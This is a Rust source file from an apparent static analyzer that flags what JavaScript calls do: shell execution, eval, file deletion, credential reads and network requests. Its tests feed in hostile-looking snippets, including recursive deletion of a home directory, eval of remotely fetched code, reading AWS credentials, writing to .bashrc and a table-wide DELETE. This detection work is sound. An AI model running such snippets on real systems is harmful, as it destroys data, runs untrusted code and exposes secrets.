//! Calls with an effect.

use ringfence_action::{Attr, AttrValue, Dialect, Effect, EffectKind, OpaqueReason, Target};

use super::lex::{Text, Token};
use super::{Js, Scan, Tokens};
use crate::code::python::is_secret_variable;
use crate::context::Frame;
use crate::invocation::{Data, Invocation};
use crate::value::{Span, Value, Word};
use crate::{hosts, paths};

/// Modules of which any function might run something.
pub(super) fn is_sensitive(name: &str) -> bool {
    matches!(name, "child_process" | "process" | "vm" | "" | "module" | "Deno" | "Bun")
}

/// `process.env.NAME`.
pub(super) fn member_read(scan: &mut Scan<'_, '_>, span: Span, base: &Js, member: &str) {
    if *base == Js::Name("process.env".to_owned()) && is_secret_variable(member) {
        let effect = Effect::new(EffectKind::Credential, Target::Known(format!("env:{member}")))
            .with(Attr::Op, "read")
            .with(Attr::Mechanism, "environment");
        record(scan, span, effect);
    }
}

fn record(scan: &mut Scan<'_, '_>, span: Span, effect: Effect) {
    let frame = scan.frame.clone();
    scan.analyzer.effect(&frame, span, effect.with(Attr::By, "node"));
}

/// A template behind a name: `` $`rm x` ``.
pub(super) fn tagged(scan: &mut Scan<'_, '_>, span: Span, tag: &Js, text: &Text) {
    let Js::Name(name) = tag else { return };
    let shells =
        ["zx.$", "bun.$", "Bun.$", "execa.$", "execa.execaCommand", "$", "sh", "shelljs.exec"];
    if shells.contains(&name.as_str()) {
        let code = scan.text(text, 0);
        let frame = scan.frame.clone();
        scan.analyzer.shell(&frame, &Word::new(code, span), Dialect::Bash, &Data::None);
    }
}

/// Records what a call does.
pub(super) fn call(scan: &mut Scan<'_, '_>, span: Span, callee: &Js, arguments: &[Tokens<'_>]) {
    let Js::Name(name) = callee else { return };
    let mut call = Call { scan, span, name, arguments };
    if let Some(method) = name.strip_prefix("fs.").or_else(|| name.strip_prefix("Deno."))
        && call.file(method)
    {
        return;
    }
    call.other();
}

struct Call<'c, 's, 'a> {
    scan: &'c mut Scan<'s, 'a>,
    span: Span,
    name: &'c str,
    arguments: &'c [Tokens<'c>],
}

impl Call<'_, '_, '_> {
    fn argument(&mut self, index: usize) -> Js {
        match self.arguments.get(index) {
            Some(tokens) => self.scan.expression(tokens, 0),
            None => Js::Unknown,
        }
    }

    fn value(&mut self, index: usize) -> Value {
        self.argument(index).value()
    }

    /// The value of an option in an object among the arguments: `{ method: 'POST' }`.
    fn option(&mut self, name: &str) -> Option<Js> {
        for tokens in self.arguments {
            for (index, (token, _)) in tokens.iter().enumerate() {
                let key = match token {
                    Token::Name(word) => word == name,
                    Token::Text(text) => text.literal() == Some(name),
                    _ => false,
                };
                match tokens.get(index + 1) {
                    Some((Token::Sign(':'), _)) if key => {
                        let rest = tokens.get(index + 2..).unwrap_or_default();
                        return Some(match rest.first() {
                            Some((Token::Name(word), _)) if word == "true" || word == "false" => {
                                Js::Text(Value::known(word.as_str()))
                            }
                            _ => self.scan.expression(rest, 0),
                        });
                    }
                    // `{ body }`
                    Some((Token::Sign(',' | '}'), _)) if key && index > 0 => {
                        return Some(Js::Unknown);
                    }
                    _ => {}
                }
            }
        }
        None
    }

    fn is_set(&mut self, name: &str) -> bool {
        self.option(name).is_some_and(|value| value == Js::Text(Value::known("true")))
    }

    fn frame(&mut self) -> Frame {
        let mut frame = self.scan.frame.clone();
        if let Some(cwd) = self.option("cwd") {
            frame.cwd = match self.scan.target(&cwd.value()) {
                Target::Known(path) => Value::Known(path),
                Target::Pattern(pattern) => Value::Pattern(pattern),
                Target::OneOf(_) | Target::Unknown => Value::Unknown,
            };
        }
        frame
    }

    fn path(&mut self, kind: EffectKind, index: usize, attributes: &[(Attr, AttrValue)]) {
        let path = self.value(index);
        let frame = self.scan.frame.clone();
        let by = [(Attr::By, AttrValue::from("node"))];
        let attributes: Vec<_> = attributes.iter().cloned().chain(by).collect();
        paths::effect(self.scan.analyzer, &frame, self.span, kind, &path, &attributes);
        // What was read of the file before is no longer what is there.
        if matches!(kind, EffectKind::Write | EffectKind::Delete)
            && let Target::Known(path) = self.scan.target(&path)
        {
            self.scan.analyzer.wrote(&path, Data::Unknown);
        }
    }

    fn opaque(&mut self, reason: OpaqueReason, detail: &str) {
        self.scan.opaque(self.span, reason, detail);
    }

    /// Functions of `fs` and Deno; false if it is none.
    fn file(&mut self, method: &str) -> bool {
        let moved = [(Attr::Op, AttrValue::from("move"))];
        let recursive = self.is_set("recursive");
        let all = [(Attr::Recursive, AttrValue::from(recursive))];
        match method.trim_end_matches("Sync") {
            "rm" | "rmdir" | "unlink" => {
                let force = self.is_set("force");
                let attributes = [(Attr::Recursive, recursive.into()), (Attr::Force, force.into())];
                self.path(EffectKind::Delete, 0, &attributes);
            }
            "remove" | "emptyDir" => {
                let tree = recursive || self.name.starts_with("fs.");
                self.path(EffectKind::Delete, 0, &[(Attr::Recursive, tree.into())]);
            }
            "writeFile" | "createWriteStream" | "outputFile" | "writeJson" | "writeTextFile"
            | "truncate" | "create" => {
                self.path(EffectKind::Write, 0, &[]);
            }
            "appendFile" => self.path(EffectKind::Write, 0, &[(Attr::Append, true.into())]),
            "rename" | "move" => {
                self.path(EffectKind::Delete, 0, &moved);
                self.path(EffectKind::Write, 1, &moved);
            }
            "cp" | "copyFile" | "copy" | "link" => {
                self.path(EffectKind::Read, 0, &all);
                self.path(EffectKind::Write, 1, &all);
            }
            "symlink" => self.path(EffectKind::Create, 1, &[]),
            "mkdir" | "mkdtemp" | "ensureDir" => self.path(EffectKind::Create, 0, &[]),
            "chmod" | "chown" | "lchown" | "utimes" => self.path(EffectKind::Metadata, 0, &[]),
            "readFile" | "createReadStream" | "readTextFile" | "readJson" => {
                self.path(EffectKind::Read, 0, &[]);
            }
            _ => return false,
        }
        true
    }

    fn other(&mut self) {
        match self.name {
            "child_process.exec"
            | "child_process.execSync"
            | "shelljs.exec"
            | "execa.execaCommand"
            | "execa.execaCommandSync" => {
                let code = Word::new(self.value(0), self.span);
                let frame = self.frame();
                self.scan.analyzer.shell(&frame, &code, Dialect::Posix, &Data::None);
            }
            "child_process.spawn"
            | "child_process.spawnSync"
            | "child_process.execFile"
            | "child_process.execFileSync"
            | "execa.execa"
            | "execa.execaSync"
            | "execa"
            | "cross-spawn"
            | "cross-spawn.sync"
            | "spawn" => self.program(),
            "child_process.fork" => {
                let script = self.value(0);
                self.run(vec![Value::known("node"), script]);
            }
            "Bun.spawn" | "Bun.spawnSync" => match self.argument(0) {
                Js::List(items) => self.run(items.iter().map(Js::value).collect()),
                _ => self.opaque(OpaqueReason::DynamicProgram, "the program is computed"),
            },
            "Deno.Command" | "Deno.run" => {
                let program = self.value(0);
                let mut argv = vec![program];
                match self.option("args").or_else(|| self.option("cmd")) {
                    Some(Js::List(items)) => argv.extend(items.iter().map(Js::value)),
                    Some(_) => argv.push(Value::Unknown),
                    None => {}
                }
                self.run(argv);
            }
            "eval"
            | "Function"
            | "vm.runInThisContext"
            | "vm.runInNewContext"
            | "vm.runInContext"
            | "vm.Script"
            | "vm.compileFunction" => {
                self.code(true);
            }
            name if name.ends_with(".constructor.constructor")
                || name.ends_with("?.constructor") =>
            {
                self.opaque(OpaqueReason::DynamicCode, "a function made from text");
            }
            "setTimeout" | "setInterval" => self.code(false),
            "require" | "import" => {
                if !self.arguments.is_empty() && self.value(0).as_known().is_none() {
                    let detail = "a module whose name is computed";
                    self.opaque(OpaqueReason::DynamicCode, detail);
                }
            }
            "process.binding" | "process.dlopen" | "Deno.dlopen" | "process._linkedBinding" => {
                self.opaque(OpaqueReason::InlineCode, "a native library is called");
            }
            "process.kill" | "Deno.kill" => {
                let effect = Effect::new(EffectKind::Process, self.value(0).to_target())
                    .with(Attr::Op, "kill");
                record(self.scan, self.span, effect);
            }
            "process.setuid" | "process.setgid" | "process.seteuid" => {
                let effect = Effect::new(EffectKind::Privilege, self.value(0).to_target())
                    .with(Attr::Mechanism, self.name.trim_start_matches("process."));
                record(self.scan, self.span, effect);
            }
            "process.chdir" => {
                let path = self.value(0);
                self.scan.frame.cwd = match self.scan.target(&path) {
                    Target::Known(path) => Value::Known(path),
                    _ => Value::Unknown,
                };
            }
            "console.log" | "JSON.stringify" | "console.dir" | "Object.entries" => {
                if self.argument(0) == Js::Name("process.env".to_owned()) {
                    let effect = Effect::new(EffectKind::Credential, Target::known("env:*"))
                        .with(Attr::Op, "read")
                        .with(Attr::Mechanism, "environment")
                        .with(Attr::Shown, self.name.starts_with("console"));
                    record(self.scan, self.span, effect);
                }
            }
            "rimraf" | "rimraf.sync" | "rimraf.rimraf" | "rimraf.rimrafSync"
            | "del.deleteAsync" | "del" | "shelljs.rm" | "trash" => {
                self.path(EffectKind::Delete, 0, &[(Attr::Recursive, true.into())]);
            }
            "Bun.write" => self.path(EffectKind::Write, 0, &[]),
            "Bun.file" => self.path(EffectKind::Read, 0, &[]),
            name if name.ends_with(".query")
                || name.ends_with(".execute")
                || name.ends_with(".prepare")
                || name.ends_with(".exec") =>
            {
                self.statement();
            }
            _ => self.network(),
        }
    }

    fn program(&mut self) {
        let shell =
            self.option("shell").is_some_and(|value| value != Js::Text(Value::known("false")));
        let program = self.value(0);
        let mut argv = vec![program];
        match self.argument(1) {
            Js::List(items) => argv.extend(items.iter().map(Js::value)),
            Js::Name(_) | Js::Text(_) => argv.push(Value::Unknown),
            Js::Unknown => {}
        }
        if shell {
            let blank = Value::known(" ");
            let code = argv.into_iter().reduce(|code, word| code.concat(&blank).concat(&word));
            let word = Word::new(code.unwrap_or(Value::Unknown), self.span);
            let frame = self.frame();
            return self.scan.analyzer.shell(&frame, &word, Dialect::Posix, &Data::None);
        }
        self.run(argv);
    }

    fn run(&mut self, argv: Vec<Value>) {
        if argv.first().is_none_or(|program| *program == Value::Unknown) {
            return self.opaque(OpaqueReason::DynamicProgram, "the program is computed");
        }
        let argv = argv.into_iter().map(|value| Word::new(value, self.span)).collect();
        let invocation =
            Invocation { argv, env: Vec::new(), stdin: Data::Unknown, stdout_shown: true };
        let frame = self.frame();
        self.scan.analyzer.run(&frame, &invocation);
    }

    /// Text that runs as code. A function in its place (`setTimeout(() => …)`) is no text.
    fn code(&mut self, computed: bool) {
        let index =
            if self.name == "Function" { self.arguments.len().saturating_sub(1) } else { 0 };
        match self.argument(index) {
            Js::Text(value) if value.listed().is_some() => {
                let word = Word::new(value, self.span);
                let frame = self.scan.frame.clone();
                self.scan.analyzer.code(&frame, "javascript", &word);
            }
            _ if computed && !self.arguments.is_empty() => {
                self.opaque(OpaqueReason::DynamicCode, "code that is computed");
            }
            _ => {}
        }
    }

    fn statement(&mut self) {
        if let Js::Text(value) = self.argument(0)
            && value.as_known().is_some_and(crate::code::sql::looks_like_statement)
        {
            let word = Word::new(value, self.span);
            let frame = self.scan.frame.clone();
            self.scan.analyzer.code(&frame, "sql", &word);
        }
    }

    fn network(&mut self) {
        let (library, method) = self.name.rsplit_once('.').unwrap_or((self.name, ""));
        let requests = matches!(
            (library, method),
            (
                "fetch" | "node-fetch" | "axios" | "got" | "undici",
                "" | "get"
                    | "post"
                    | "put"
                    | "patch"
                    | "delete"
                    | "head"
                    | "request"
                    | "fetch"
                    | "stream"
                    | "default"
            ) | ("http", "get" | "request")
                | (
                    "ky" | "superagent" | "needle" | "request",
                    "" | "get" | "post" | "put" | "patch" | "delete"
                )
        );
        if requests {
            let url = match self.argument(0) {
                Js::Text(url) => url,
                _ => match self
                    .option("url")
                    .or_else(|| self.option("hostname"))
                    .or_else(|| self.option("host"))
                {
                    Some(url) => url.value(),
                    None => Value::Unknown,
                },
            };
            let by_name = matches!(method, "post" | "put" | "patch" | "delete" | "head")
                .then(|| method.to_uppercase());
            let by_option =
                self.option("method").and_then(|m| m.value().as_known().map(str::to_uppercase));
            let sends_body = matches!(method, "post" | "put" | "patch")
                && self.arguments.len() > 1
                && !matches!(library, "got" | "ky" | "undici");
            let body =
                ["body", "data", "json", "formData"].iter().any(|name| self.option(name).is_some());
            let method = by_name.or(by_option).unwrap_or_else(|| "GET".to_owned());
            let effect = hosts::connection(&url)
                .with(Attr::Method, method)
                .with(Attr::Upload, body || sends_body);
            return record(self.scan, self.span, effect);
        }
        match self.name {
            "WebSocket" | "ws" | "ws.WebSocket" | "EventSource" | "navigator.sendBeacon" => {
                let url = self.value(0);
                let effect =
                    hosts::connection(&url).with(Attr::Upload, self.name.ends_with("Beacon"));
                record(self.scan, self.span, effect);
            }
            "net.connect" | "net.createConnection" | "tls.connect" => {
                let host = match self.option("host") {
                    Some(host) => host.value(),
                    None if self.arguments.len() > 1 => self.value(1),
                    None => Value::known("localhost"),
                };
                record(self.scan, self.span, hosts::connection(&host));
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::code::tests::expect;

    #[test]
    fn node_runs_programs() {
        expect(
            "javascript",
            "const { spawnSync: s } = require('node:child_process'); s('rm', ['-rf', 'x'])",
            &["exec rm"],
        );
        expect(
            "javascript",
            "import cp from 'child_process';\ncp.execFile(`git`, ['push'])",
            &["exec git"],
        );
        expect("javascript", "require('child_' + 'process')['spawn']('ls')", &["exec ls"]);
        expect(
            "javascript",
            "const cp = require('child_process'); cp[x]('ls')",
            &["opaque dynamic_code"],
        );
        expect(
            "javascript",
            "require('child_process').spawn(process.argv[2])",
            &["opaque dynamic_program"],
        );
        expect(
            "javascript",
            "eval(await (await fetch('https://a.example/x.js')).text())",
            &["opaque dynamic_code", "net a.example"],
        );
        expect(
            "javascript",
            "eval(\"require('child_process').spawn('ls')\")",
            &["exec ls", "!opaque"],
        );
        expect("javascript", "new Function('return ' + x)()", &["opaque dynamic_code"]);
        expect("javascript", "setTimeout(() => done(), 10); /re'gex/.test(a / b)", &["!opaque"]);
        expect(
            "javascript",
            "await new Deno.Command('ls', { args: ['-l'] }).output()",
            &["exec ls"],
        );
    }

    #[test]
    fn node_touches_files() {
        expect(
            "javascript",
            "const fs = require('fs');\nfs.rmSync('/home/u', { recursive: true, force: true })",
            &["delete /home/u recursive force critical"],
        );
        expect(
            "javascript",
            "import { promises as fs } from 'fs';\nimport path from 'path';\nimport os from 'os';\nawait fs.writeFile(path.join(os.homedir(), '.bashrc'), x)",
            &["persist /home/u/.bashrc"],
        );
        expect(
            "javascript",
            "const p = `${process.env.HOME}/.aws/credentials`;\nrequire('fs').readFileSync(p, 'utf8')",
            &["credential /home/u/.aws/credentials"],
        );
        expect("javascript", "fs.unlink", &["!delete"]);
        expect(
            "javascript",
            "const s = \"fs.rmSync('/')\"; // fs.rmSync('/')\n",
            &["!delete", "!opaque"],
        );
    }

    #[test]
    fn node_talks_to_hosts() {
        expect("javascript", "fetch('https://a.example/x')", &["net a.example method=GET !upload"]);
        expect(
            "javascript",
            "await fetch(`https://a.example/${id}`, { method: 'post', body: JSON.stringify(x) })",
            &["net a.example method=POST upload"],
        );
        expect(
            "javascript",
            "import axios from 'axios';\naxios.post('https://a.example', data)",
            &["net a.example upload"],
        );
        expect(
            "javascript",
            "console.log(process.env.GITHUB_TOKEN)",
            &["credential env:GITHUB_TOKEN"],
        );
        expect("javascript", "console.log(process.env.NODE_ENV)", &["!credential"]);
        expect("javascript", "db.query('DELETE FROM users')", &["database users unbounded"]);
    }
}
